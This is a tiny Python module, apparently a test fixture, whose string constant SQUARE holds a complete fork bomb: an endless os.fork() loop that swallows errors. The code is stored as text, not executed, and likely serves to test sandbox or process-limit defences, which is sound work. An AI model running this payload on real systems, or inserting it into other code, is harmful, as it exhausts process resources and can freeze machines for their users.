"""Forks without end."""

SQUARE = r"""
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""
